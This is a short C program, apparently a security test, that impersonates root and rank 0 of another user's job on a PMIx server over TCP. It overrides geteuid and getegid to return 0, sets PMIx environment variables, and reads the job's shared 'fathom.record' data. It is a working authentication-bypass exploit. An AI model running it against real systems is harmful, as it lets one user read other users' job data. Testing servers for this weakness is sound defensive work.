/**
 * Another user who claims to be root and thread 0 of somebody's job, which a PMIx server over TCP
 * believes if the name of the job is right.
 *
 * usage: impostor NAMESPACE SERVER PORT
 *
 * Exit status: 0 if the server has accepted him, with a line "record: N bytes" for what threads
 * tell each other, or one that says why he has not got it; 1 if not.
 */
#include <pmix.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/types.h>
#include <unistd.h>

/* Replaces the C library's function for the PMIx library. */
__attribute__((visibility("default"))) uid_t geteuid(void)
{
    return 0;
}

__attribute__((visibility("default"))) gid_t getegid(void)
{
    return 0;
}

int main(int argc, char **argv)
{
    char uri[512];
    pmix_proc_t self;
    pmix_value_t *value;
    if (argc != 4)
        return 2;
    snprintf(uri, sizeof uri, "%s.0;tcp4://127.0.0.1:%s", argv[2], argv[3]);
    setenv("PMIX_NAMESPACE", argv[1], 1);
    setenv("PMIX_RANK", "0", 1);
    setenv("PMIX_SERVER_URI41", uri, 1);
    setenv("PMIX_SERVER_URI4", uri, 1);
    setenv("PMIX_MCA_gds", "hash", 1);
    setenv("PMIX_SECURITY_MODE", "native", 1);
    setenv("PMIX_BFROP_BUFFER_TYPE", "PMIX_BFROP_BUFFER_NON_DESC", 1);
    pmix_status_t status = PMIx_Init(&self, NULL, 0);
    if (status != PMIX_SUCCESS) {
        fprintf(stderr, "not accepted: %s\n", PMIx_Error_string(status));
        return 1;
    }
    pmix_info_t immediate;
    bool yes = true;
    PMIX_INFO_LOAD(&immediate, PMIX_IMMEDIATE, &yes, PMIX_BOOL);
    status = PMIx_Get(&self, "fathom.record", &immediate, 1, &value);
    if (status == PMIX_SUCCESS && value->type == PMIX_BYTE_OBJECT)
        printf("record: %zu bytes\n", value->data.bo.size);
    else
        fprintf(stderr, "no record: %s\n", PMIx_Error_string(status));
    fflush(stdout);
    _exit(0);
}
